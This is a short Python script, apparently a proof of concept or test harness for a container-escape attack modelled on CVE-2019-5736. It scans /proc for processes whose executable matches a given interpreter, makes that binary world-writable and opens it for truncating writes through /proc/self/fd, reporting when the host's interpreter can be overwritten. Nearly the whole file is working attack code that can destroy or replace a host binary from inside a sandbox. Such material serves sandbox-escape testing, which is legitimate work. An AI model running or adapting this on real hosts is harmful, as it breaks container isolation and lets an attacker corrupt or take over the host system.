"""Changes the interpreter that the server starts sandboxes with: a process's own name for its program leads to it past
every mount, and so does a script whose first line is that name (as in CVE-2019-5736)."""

import contextlib
import errno
import json
import os
import sys
from pathlib import Path

wanted = json.loads(sys.argv[1])["interpreter"]
for process in Path("/proc").glob("[0-9]*"):
    with contextlib.suppress(OSError):
        handle = os.open(process / "exe", os.O_PATH)
        found, name = os.stat(handle), f"/proc/self/fd/{handle}"
        if [found.st_dev, found.st_ino] != wanted:
            continue
        with contextlib.suppress(PermissionError):
            os.chmod(name, 0o777)  # noqa: S103
        try:
            os.close(os.open(name, os.O_WRONLY | os.O_TRUNC))
        except OSError as e:
            if e.errno != errno.ETXTBSY:  # busy: whoever waits for the end of all who run it may write
                continue
        print(f"succeeded: may write {process}/exe")
        break
